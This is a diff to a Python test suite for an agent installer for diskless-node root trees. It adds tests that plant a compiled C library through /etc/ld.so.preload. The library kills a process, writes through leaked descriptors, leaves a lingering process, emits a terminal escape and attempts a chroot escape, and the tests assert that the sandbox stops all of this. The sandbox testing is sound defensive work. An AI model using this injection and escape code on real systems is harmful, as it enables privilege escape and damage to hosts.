@@ -1,17 +1,20 @@
 #!/usr/bin/python3 -B
 """The agent is put into the root tree of diskless nodes, which may be running from it."""
 
+import contextlib
 import fcntl
 import os
 import re
 import shutil
+import socket
 import stat
+import subprocess
 import tomllib
 import unittest
 from pathlib import Path
 from tempfile import mkdtemp
 
-from cluster import case, image
+from cluster import case, image, wait
 from cluster.cluster import REPOSITORY, binaries
 from cluster.image import COORDINATOR, EXAMPLES, INSTALL, KEY, ImageTree, must, run
 
@@ -19,6 +22,86 @@ PROGRAM = "/usr/sbin/snagentd"
 CONFIG = "/etc/snagent/agent.toml"
 CLUSTER = "/etc/snagent/cluster.toml"
 WANTED = "/etc/systemd/system/sysinit.target.wants/snagentd.service"
+
+# What the root of a node may put into its tree on the server.  Every number in it is root's own here.
+ATTACK = r"""
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <linux/capability.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <string.h>
+#include <stdlib.h>
+#include <sys/prctl.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static void leave(int from, const char* path, const char* mark) {
+  int there = openat(from, path, O_WRONLY | O_CREAT, 0644);
+  if (there >= 0) (void)!write(there, mark, strlen(mark));
+}
+
+static unsigned long limit(int what) {
+  struct rlimit limits;
+  getrlimit(what, &limits);
+  return limits.rlim_max;
+}
+
+static void report(void) {
+  unsigned data[6] = {0}, header[2] = {_LINUX_CAPABILITY_VERSION_3, 0};
+  syscall(SYS_capget, header, data);
+  int bounds = 0, others = 0;
+  for (int i = 0; i < 64; ++i) bounds += prctl(PR_CAPBSET_READ, i, 0, 0, 0) == 1;
+  for (int fd = 3; fd < 65536; ++fd) others += fcntl(fd, F_GETFD) >= 0;
+  unsigned caps = 0;
+  for (int i = 0; i < 6; ++i) caps |= data[i];
+  printf("uid %u %u, gid %u %u, groups %d, caps %x, bounds %d, no_new_privs %d, others %d, "
+         "came back %d, elsewhere %d, core %lu, size %lu, cpu %lu, memory %d, \033[2Jend\n",
+         getuid(), geteuid(), getgid(), getegid(), getgroups(0, 0), caps, bounds,
+         prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0), others, setuid(0) == 0, getsid(0) == 0,
+         limit(RLIMIT_CORE), limit(RLIMIT_FSIZE), limit(RLIMIT_CPU),
+         limit(RLIMIT_AS) != RLIM_INFINITY);
+  fflush(stdout);
+}
+
+__attribute__((constructor)) static void attack(void) {
+  unsetenv("LD_PRELOAD");
+  // A file of root's in the tree, and one beyond it over a descriptor that somebody forgot.
+  leave(AT_FDCWD, "/etc/attacked", "tree");
+  for (int fd = 3; fd < 1024; ++fd) leave(fd, "descriptor", "descriptor");
+  kill(VICTIM, SIGKILL);
+  int out = socket(AF_INET, SOCK_STREAM, 0);
+  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(PORT)};
+  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  connect(out, (struct sockaddr*)&to, sizeof to);
+  close(out);
+  // One that stays behind.
+  if (fork() == 0) {
+    setsid();
+    prctl(PR_SET_NAME, "left-behind");
+    close(1), close(2);
+    sleep(60);
+    _exit(0);
+  }
+  report();
+  // The way out of a chroot: one beneath where one stands.
+  mkdir("/run/beneath", 0755);
+  int up = open("/", O_RDONLY);
+  if (chroot("/run/beneath") == 0 && fchdir(up) == 0) {
+    for (int i = 0; i < 64; ++i) (void)!chdir("..");
+    (void)!chroot(".");
+  }
+  leave(AT_FDCWD, OUTSIDE "/chroot", "chroot");
+  leave(AT_FDCWD, "/proc/1/root" OUTSIDE "/proc", "proc");
+  _exit(7);
+}
+"""
 
 
 def newest_needed(kind: str) -> str:
@@ -53,6 +136,16 @@ class InstallIntoImage(unittest.TestCase):
         self.assertTrue(tree[os.readlink(link)].is_file())
         self.assertIn("good: ", must("chroot", tree.path, PROGRAM, "check"))
         self.assertEqual(self.temporaries(tree), [])
+
+    def assert_gone(self, name: str) -> None:
+        """No process of that name is left on this machine, or only one that is ending."""
+        def found() -> list[str]:
+            names = []
+            for path in Path("/proc").glob("[0-9]*/comm"):
+                with contextlib.suppress(OSError):
+                    names.append(path.read_text().strip())
+            return names
+        wait.until(f"{name} is gone", lambda: name not in found(), deadline_s=5)
 
     def temporaries(self, tree: ImageTree) -> list[str]:
         return [str(path) for path in tree.path.rglob(".*.snkeeper")]
@@ -292,6 +385,57 @@ class InstallIntoImage(unittest.TestCase):
         self.assertEqual(done.returncode, 3, done.stdout + done.stderr)
         self.assertEqual(tree.state(), before, "a refusal changes nothing")
         return done.stderr
+
+    def test_what_a_tree_has_its_loader_run_gets_no_rights_here(self) -> None:
+        outside = Path(mkdtemp())
+        victim = subprocess.Popen(["sleep", "600"])
+        self.addCleanup(victim.wait)
+        self.addCleanup(victim.kill)
+        listener = socket.create_server(("127.0.0.1", 0))
+        self.addCleanup(listener.close)
+        listener.settimeout(0.2)
+        tree = ImageTree("debian")
+        (outside / "attack.c").write_text(ATTACK)
+        must("gcc", "-shared", "-fPIC", "-o", tree["/usr/lib/attack.so"], outside / "attack.c",
+             f'-DOUTSIDE="{outside}"', f"-DVICTIM={victim.pid}",
+             f"-DPORT={listener.getsockname()[1]}")
+        tree.write("/etc/ld.so.preload", "/usr/lib/attack.so\n")
+        forgotten = os.open(outside, os.O_RDONLY)
+        self.addCleanup(os.close, forgotten)
+        said = self.assert_refused(tree, "does not take this", pass_fds=(forgotten,))
+        self.assertEqual([path.name for path in outside.iterdir()], ["attack.c"])
+        self.assertIsNone(victim.poll(), "it has killed a process of this machine")
+        with self.assertRaises(TimeoutError, msg="it has reached the network"):
+            listener.accept()
+        self.assert_gone("left-behind")
+        self.assertIn("uid 65534 65534, gid 65534 65534, groups 0, caps 0, bounds 0, "
+                      "no_new_privs 1, others 0, came back 0, elsewhere 1, "
+                      "core 0, size 0, cpu 30, memory 1, ?[2Jend", said, "and harmless to a terminal")
+
+    def test_an_agent_that_does_not_end_is_ended(self) -> None:
+        for body, reason in (("for (;;) write(1, text, sizeof text);", "does not stop talking"),
+                             ("close(1); close(2); setsid(); signal(SIGTERM, SIG_IGN); for (;;) pause();",
+                              "does not end")):
+            with self.subTest(reason):
+                tree = ImageTree("el")
+                work = Path(mkdtemp())
+                (work / "endless.c").write_text(
+                    "#include <signal.h>\n#include <unistd.h>\n#include <sys/prctl.h>\n"
+                    "static char text[4096];\n__attribute__((constructor)) static void f(void) {"
+                    f"prctl(PR_SET_NAME, \"endless\"); {body} }}\n")
+                must("gcc", "-shared", "-fPIC", "-o", tree["/usr/lib/endless.so"],
+                     work / "endless.c")
+                tree.write("/etc/ld.so.preload", "/usr/lib/endless.so\n")
+                self.assert_refused(tree, reason)
+                self.assert_gone("endless")
+
+    def test_where_nothing_can_be_locked_up_nothing_of_the_tree_is_run(self) -> None:
+        tree = ImageTree("debian")
+        said = self.assert_done(tree.install(before=(
+            "strace", "-f", "-o", "/dev/null", "-e", "trace=unshare", "-e",
+            "inject=unshare:error=EPERM")))
+        self.assertIn("the agent was not run in it: this machine can't lock it up (unshare: ", said)
+        self.assert_installed(tree)
 
     def test_what_is_not_said_and_not_there_is_asked_for(self) -> None:
         tree = ImageTree("debian")
